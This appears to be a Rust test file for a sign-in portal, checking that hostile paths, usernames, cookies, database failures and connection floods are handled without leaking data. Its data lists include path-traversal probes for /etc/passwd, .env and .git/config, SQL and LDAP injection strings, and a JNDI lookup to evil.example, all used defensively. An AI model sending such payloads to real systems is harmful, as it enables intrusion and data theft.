//! Addresses, names and moments that nobody expects.

use crate::kit::*;
use diesel::connection::SimpleConnection;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};

const PATHS: [&str; 26] = [
    "/static/..%2f..%2fetc/passwd",
    "/static/%2e%2e/%2e%2e/etc/passwd",
    "/static/..%5c..%5cetc",
    "/b/contoso/..%2f..%2fetc%2fpasswd",
    "/b/contoso/%00",
    "/b/%00/x",
    "/b/../sign-in",
    "//sign-in",
    "/./account",
    "/%2e/account",
    "/account;x",
    "/account/..;/",
    "/ACCOUNT",
    "/account%2f",
    "/account/",
    "/account.",
    "/account%20",
    "/forgot/password;x",
    "/forgot//password",
    "/.git/config",
    "/.env",
    "/metrics",
    "/administrator",
    "/openapi.json",
    "/forgot/code%00",
    "/%ff",
];

on_both!(an_address_that_does_not_exist_is_not_found_however_it_is_written, |app| async {
    let browser = app.alex().await;
    for path in PATHS {
        let request = format!("GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
        let answer = raw::exchange(app.address, request.as_bytes(), Duration::from_secs(3)).await;
        assert!(matches!(raw::status(&answer), 404 | 400), "{path}: {answer}");
        assert!(!answer.contains("root:"), "{path}");
    }
    for path in ["/account%2f", "/ACCOUNT", "/account.", "/forgot//password"] {
        assert_eq!(browser.get(path).await.status, 404, "{path} signed in");
    }
    let long = format!("/{}", "a".repeat(9_000));
    let status = browser.get(&long).await.status;
    assert!(matches!(status, 404 | 414), "{status}");
});

on_both!(a_page_that_is_not_found_is_the_same_for_everybody, |app| async {
    let browser = app.browser();
    let one = browser.get("/report/aaaa").await;
    let two = browser.get("/report/bbbb").await;
    assert_eq!(one.masked("x").replace("aaaa", "bbbb"), two.masked("x"));
    let (one, two) =
        (browser.get("/b/contoso/nothing.png").await, browser.get("/b/nobody/nothing.png").await);
    assert_eq!((one.status, two.status), (404, 404));
});

on_both!(a_panic_is_answered_with_a_page_and_the_portal_goes_on, |app| async {
    let browser = app.browser();
    let page = browser.get("/sign-in").await;
    app.break_clock_once();
    let fields = [("username", "alex"), ("password", "a secret nobody reads")];
    let answer = browser.submit(&page, "/sign-in", &fields).await;
    assert_eq!((answer.status, answer.all("h1").len()), (500, 1));
    for secret in ["clock", "panick", ".rs", "a secret nobody reads", "alex"] {
        assert!(!answer.body.contains(secret), "{secret} is told");
    }
    browser.sign_in("alex", ALEX).await;
});

on_both!(a_database_that_does_not_answer_gives_a_page_and_comes_back, |app| async {
    let browser = app.browser();
    let page = browser.get("/sign-in").await;
    app.execute("ALTER TABLE users RENAME TO users_gone");
    let fields = [("username", "alex"), ("password", ALEX)];
    let answer = browser.submit(&page, "/sign-in", &fields).await;
    assert_eq!((answer.status, answer.all("h1").len()), (503, 1));
    for secret in ["users", "SELECT", "relation", "no such table", "diesel"] {
        assert!(!answer.body.contains(secret), "{secret} is told: {}", answer.main());
    }
    app.execute("ALTER TABLE users_gone RENAME TO users");
    browser.sign_in("alex", ALEX).await;
});

on_both!(hostile_names_are_only_names, |app| async {
    app.mail_only();
    let names = [
        "' OR '1'='1",
        "alex'; DROP TABLE users; --",
        "*",
        "a*",
        ")(uid=*",
        "*)(|(uid=*",
        "\\2a",
        "admin)(&))(",
        ",+\"\\<>;=#",
        "{{7*7}}",
        "${jndi:ldap://evil.example}",
        "%s%s%n",
        "\u{202e}xela",
        "null",
        "undefined",
        "-1",
        "9999999999999999999999",
        "\"}{\"level\":\"info\"",
    ];
    for name in names {
        assert_eq!(app.browser().try_sign_in(name, "wrong password").await.status, 422, "{name}");
        let browser = app.browser();
        assert_eq!(browser.forgot(name).await.status, 303, "{name}");
        let page = browser.get("/forgot/code").await;
        assert!(
            page.status == 200 && page.main().contains(name.trim_matches('\u{202e}')),
            "{name}: {}",
            page.main()
        );
    }
    assert_eq!(app.mails().len(), 0);
});

on_both!(hostile_cookies_are_only_cookies, |app| async {
    let browser = app.browser();
    let token = browser.get("/sign-in").await.csrf();
    for value in [&*token, "x", "%00", "../../x", &"a".repeat(3_000), "null", "{}"] {
        for name in
            ["latchkey-session", "latchkey-flow", "latchkey-realm", "latchkey-language", "latchkey-visit"]
        {
            let browser = app.browser();
            browser.set_cookie(name, value);
            assert_eq!(browser.get("/sign-in").await.status, 200, "{name}={value}");
            assert_eq!(browser.get("/account").await.status, 303, "{name}={value}");
            assert_eq!(browser.open("/forgot/code").await.path, "/forgot/expired", "{name}={value}");
        }
    }
});

on_both!(the_first_run_page_is_closed_once_there_is_a_tenant, |app| async {
    let browser = app.browser();
    assert_eq!(browser.get("/setup").await.status, 404);
    assert_eq!(browser.get("/setup?token=").await.status, 404);
    let token = browser.get("/sign-in").await.csrf();
    let fields = [
        ("csrf", &*token),
        ("organization", "Evil"),
        ("realm", "evil.example"),
        ("username", "x"),
        ("mail", "x@evil.example"),
        ("password", NEXT),
    ];
    assert_eq!(browser.post("/setup", &fields).await.status, 404);
    app.execute("UPDATE users SET disabled_at = 1 WHERE role = 'admin'");
    assert_eq!(browser.get("/setup").await.status, 404, "even when no administrator is left");
    assert_eq!(app.count("tenants"), 2);
    assert_eq!(browser.get("/demo/outbox").await.status, 404);
});

on_both!(a_password_manager_finds_its_way, |app| async {
    app.browser().get("/.well-known/change-password").await.leads_to("/password");
    let absent = "/.well-known/resource-that-should-not-exist-whose-status-code-should-not-be-200";
    assert_eq!(app.browser().get(absent).await.status, 404);
    let page = app.browser().get("/sign-in").await;
    assert_eq!(page.attribute("#username", "autocomplete").as_deref(), Some("username webauthn"));
    assert_eq!(page.attribute("#password", "autocomplete").as_deref(), Some("current-password"));
    let browser = app.browser();
    browser.prove_alex(&app).await;
    let page = browser.get("/forgot/password").await;
    assert_eq!(page.attribute("#new_password", "autocomplete").as_deref(), Some("new-password"));
    assert!(
        page.attribute("#new_password", "passwordrules").unwrap().contains("minlength: 15; maxlength: 256")
    );
});

on_both!(a_database_that_others_hold_turns_people_away_until_it_is_free, |app| async {
    let (alex, stranger, store) = (app.alex().await, app.browser(), app.other_store());
    let (taken, is_taken) = std::sync::mpsc::channel();
    let (free, until_free) = std::sync::mpsc::channel::<()>();
    let holder = std::thread::spawn(move || {
        store.write(|conn| -> anyhow::Result<()> {
            if let latchkey::store::Conn::Pg(pg) = conn {
                pg.batch_execute("LOCK TABLE sessions, events, users IN ACCESS EXCLUSIVE MODE")?;
            }
            taken.send(())?;
            Ok(until_free.recv()?)
        })
    });
    app.blocking(|_| is_taken.recv().unwrap());
    // The next page notes that the session is in use.
    app.pass(61);
    let (page, answer) = tokio::join!(alex.get("/help"), stranger.try_sign_in("alex", "a wrong password"));
    for refused in [page, answer] {
        assert_eq!((refused.status, refused.header("retry-after")), (503, "3"), "{}", refused.path);
        assert_eq!(refused.all("h1").len(), 1, "{}", refused.path);
        for secret in ["locked", "timeout", "sessions", "diesel"] {
            assert!(!refused.main().contains(secret), "{secret} is told: {}", refused.main());
        }
    }
    free.send(()).unwrap();
    app.blocking(|_| holder.join().unwrap().unwrap());
    assert_eq!((alex.get("/help").await.status, alex.get("/account").await.status), (200, 200));
});

on_both!(one_address_cannot_take_all_connections, |app| async {
    let from = |place: &'static str| async move {
        let socket = TcpSocket::new_v4().unwrap();
        socket.bind(format!("{place}:0").parse().unwrap()).unwrap();
        socket.connect(app.address).await.unwrap()
    };
    let asked = |mut stream: TcpStream| async move {
        stream.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n").await.ok();
        let mut start = [0; 12];
        let answered = stream.read_exact(&mut start).await.is_ok();
        (answered && start.ends_with(b"200"), stream)
    };
    let mut held = Vec::new();
    for number in 0..256 {
        let (served, stream) = asked(from("127.0.0.77").await).await;
        assert!(served, "{number}");
        held.push(stream);
    }
    assert!(!asked(from("127.0.0.77").await).await.0, "one too many");
    assert!(asked(from("127.0.0.78").await).await.0, "somebody else");
    drop(held);
    // The server hears of it a moment later.
    let freed = async { while !asked(from("127.0.0.77").await).await.0 {} };
    tokio::time::timeout(Duration::from_secs(10), freed).await.unwrap();
});
